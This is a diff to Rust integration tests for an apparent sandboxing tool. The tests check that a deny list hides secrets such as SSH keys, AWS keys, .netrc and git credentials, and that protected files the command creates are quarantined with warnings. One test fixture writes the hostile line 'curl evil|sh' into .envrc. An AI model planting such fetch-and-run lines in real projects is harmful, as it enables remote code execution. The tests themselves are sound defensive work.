@@ -53,7 +53,9 @@ fn default_allows_reads() {
 }
 
 /// The built-in deny list hides secrets in HOME, and a denied path that does
-/// not exist yet cannot be created even when its parent is writable.
+/// not exist yet, created when its parent is writable, does not stay at its
+/// name after the run (quarantined, with a warning; see
+/// docs/threat-model.md, "Protected paths that do not exist").
 #[test]
 fn default_deny_list_hides_secrets() {
     let home = scratch();
@@ -80,21 +82,15 @@ fn default_deny_list_hides_secrets() {
         .unwrap();
     let r = common::Run::from(out);
     assert_eq!(r.code, 0, "{r:?}");
-    for secret in [
-        "PRIVATE",
-        "AWSKEY",
-        "HIST",
-        "NETRC",
-        "id_ed25519",
-        "CREATED",
-    ] {
+    for secret in ["PRIVATE", "AWSKEY", "HIST", "NETRC", "id_ed25519"] {
         assert!(!r.stdout.contains(secret), "{secret} leaked: {r:?}");
     }
     assert!(r.stdout.contains("public"), "{r:?}");
     assert!(r.stdout.contains("wrote-new"), "{r:?}");
-    // Placeholders for missing denied paths are gone after the run.
-    assert!(!h.join(".kube").exists(), "placeholder left behind");
+    // What the command created at missing denied names is moved aside.
+    assert!(!h.join(".kube").exists(), "created .kube left at its name");
     assert!(!h.join(".git-credentials").exists());
+    assert!(r.stderr.contains(".git-credentials was created"), "{r:?}");
     assert_eq!(std::fs::read_to_string(h.join("new.txt")).unwrap(), "new\n");
 }
 
@@ -722,17 +718,22 @@ fn profile_applies_a_preset_to_a_plain_run() {
         "echo 'curl evil|sh' > .envrc 2>/dev/null && echo ENVRC-WRITTEN; \
          mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; \
          test -f .vscode/settings.json && test \"$(cat .vscode/settings.json)\" = '{}' && echo json-file; \
-         echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
+         mkdir -p .vscode && echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
          echo ok > ok.txt && cat ok.txt",
     );
-    // A missing protected file (it has an extension) is held by a
-    // read-only file, so programs that read it see a file, not a
-    // directory: `{}` for JSON (empty is invalid JSON), else empty.
-    assert_eq!(r.stdout, "json-file\nok\n", "{r:?}");
+    // No placeholder: a missing protected file is missing inside too. What
+    // the command creates there is moved aside after the run, with a
+    // warning for each.
+    assert!(r.stdout.ends_with("ok\n") && !r.stdout.contains("json-file"), "{r:?}");
     assert!(
-        !p.join(".envrc").exists() && !p.join(".git").exists() && !p.join(".vscode").exists(),
-        "placeholder left behind"
+        !p.join(".envrc").exists()
+            && !p.join(".git/hooks").exists()
+            && !p.join(".vscode/settings.json").exists(),
+        "a protected path created by the command stayed: {r:?}"
     );
+    for name in [".envrc", ".git/hooks", ".vscode/settings.json"] {
+        assert!(r.stderr.contains(&format!("{name} was created")), "{name}: {r:?}");
+    }
     let r = run_in(&p, &["--profile", "no-such-profile-zb", "--", "true"]);
     assert_eq!(r.code, 2, "{r:?}");
     assert!(r.stderr.contains("no-such-profile-zb"), "{r:?}");
